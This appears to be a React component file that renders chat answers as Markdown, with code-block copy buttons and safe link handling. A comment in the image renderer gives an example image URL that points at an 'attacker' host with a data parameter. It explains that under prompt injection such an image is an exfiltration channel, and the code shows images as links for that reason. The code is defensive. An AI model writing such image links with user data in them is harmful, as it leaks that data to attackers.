'use client'
import { memo } from 'react'
import ReactMarkdown, { type Components } from 'react-markdown'
import remarkGfm from 'remark-gfm'
import remarkBreaks from 'remark-breaks'
import type { Element, ElementContent } from 'hast'
import { CheckIcon, CopyIcon } from './icons'
import { useCopy } from './chat/copy-button'

/**
 * Renders an answer's Markdown (GFM: tables, task lists, strikethrough, autolinks). Raw HTML is not
 * rendered. A single newline is a line break (remark-breaks), not a space: models write poems and
 * lists with single line breaks, and a chat reader expects to see them.
 */
export const Markdown = memo(function Markdown({ text, streaming = false }: { text: string; streaming?: boolean }) {
  return (
    <div className={`markdown ${streaming ? 'is-streaming' : ''}`}>
      <ReactMarkdown remarkPlugins={PLUGINS} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  )
})

const PLUGINS = [remarkGfm, remarkBreaks]

const components: Components = {
  pre({ node, children }) {
    const code = node?.children.find((c): c is Element => c.type === 'element' && c.tagName === 'code')
    const className: unknown = code?.properties?.className
    const classes: string[] = Array.isArray(className) ? className.map(String) : typeof className === 'string' ? className.split(' ') : []
    const language = classes.find((c) => c.startsWith('language-'))?.slice('language-'.length)
    return (
      <CodeBlock language={language} text={code ? textOf(code).replace(/\n$/, '') : ''}>
        {children}
      </CodeBlock>
    )
  },
  a({ node: _node, href, children, ...props }) {
    const external = typeof href === 'string' && /^https?:\/\//i.test(href)
    return (
      <a href={href} {...props} {...(external ? { target: '_blank', rel: 'noopener noreferrer nofollow' } : {})}>
        {children}
      </a>
    )
  },
  // An image is shown as a link, never fetched: with prompt injection, an answer's image URL
  // (`![x](https://attacker/?d=…)`) is an exfiltration channel the moment it loads. The CSP
  // (img-src 'self' data:) would block it anyway; this keeps the answer readable.
  img({ src, alt }) {
    const href = typeof src === 'string' ? src : undefined
    const label = `image: ${alt || href || 'untitled'}`
    if (!href || !/^https?:\/\//i.test(href)) return <span data-testid="markdown-image">[{label}]</span>
    return (
      <a data-testid="markdown-image" href={href} target="_blank" rel="noopener noreferrer nofollow">
        [{label}]
      </a>
    )
  },
  table({ node: _node, children, ...props }) {
    return (
      <div className="table-wrap">
        <table {...props}>{children}</table>
      </div>
    )
  },
}

function CodeBlock({ language, text, children }: { language?: string; text: string; children: React.ReactNode }) {
  const { copied, copy } = useCopy(text)

  return (
    <div className="code-block overflow-hidden rounded-xl border border-neutral-200 bg-neutral-50 dark:border-neutral-700/70 dark:bg-neutral-950">
      <div className="flex items-center justify-between border-b border-neutral-200 bg-neutral-100/80 py-1 pr-1.5 pl-3.5 text-xs text-neutral-500 dark:border-neutral-700/70 dark:bg-neutral-800/60 dark:text-neutral-400">
        <span data-lang={language || 'code'} className="font-mono" aria-hidden="true" />
        <button
          type="button"
          onClick={() => void copy()}
          aria-label={copied ? 'Copied' : 'Copy code'}
          data-label={copied ? 'Copied' : 'Copy'}
          className="inline-flex items-center gap-1.5 rounded-md px-2 py-1 font-sans text-xs hover:bg-neutral-200 hover:text-neutral-900 dark:hover:bg-neutral-700 dark:hover:text-neutral-100"
        >
          {copied ? <CheckIcon className="size-3.5" /> : <CopyIcon className="size-3.5" />}
        </button>
      </div>
      <pre className="overflow-x-auto px-4 py-3 font-mono text-[13px] leading-6 text-neutral-800 dark:text-neutral-200">{children}</pre>
    </div>
  )
}

function textOf(node: Element | ElementContent): string {
  if (node.type === 'text') return node.value
  if (node.type === 'element') return node.children.map(textOf).join('')
  return ''
}
